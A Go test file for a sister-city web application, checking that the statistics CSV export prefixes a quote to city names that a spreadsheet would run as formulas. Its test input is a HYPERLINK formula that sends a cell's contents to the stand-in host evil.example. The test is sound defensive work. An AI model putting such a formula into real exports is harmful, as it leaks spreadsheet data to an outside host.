package web

import (
	"context"
	"database/sql"
	"encoding/csv"
	"strings"
	"testing"

	"sistercity/internal/register"
)

// TestStatisticsCSVNeutralisesFormulas: a partner city whose name a spreadsheet would run as a
// formula is written with a quote in front in the statistics CSV; the counts stay numbers.
func TestStatisticsCSVNeutralisesFormulas(t *testing.T) {
	e := newTestEnv(t)
	_, partner, p := seedVladivostok(t, e)
	seedExchange(t, e, p)
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Vladivostok")`
	e.inTx(func(tx *sql.Tx) error {
		partner.SetText("en", formula, "")
		partner.SetText("ko", "@블라디보스토크", "")
		return register.UpdateCity(context.Background(), tx, partner)
	})
	c := e.client()
	for lang, want := range map[string]string{"en": "'" + formula, "ko": "'@블라디보스토크"} {
		resp, body := c.get("/" + lang + "/statistics/by-partner.csv")
		if resp.StatusCode != 200 {
			t.Fatalf("%s: %d", lang, resp.StatusCode)
		}
		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(records) != 2 || len(records[1]) < 3 || records[1][1] != want {
			t.Fatalf("%s CSV: %q, want the name %q", lang, records, want)
		}
		for _, cell := range records[1][2:] {
			if cell == "" || cell[0] < '0' || cell[0] > '9' {
				t.Errorf("%s: count %q is not a plain number", lang, cell)
			}
		}
	}
}
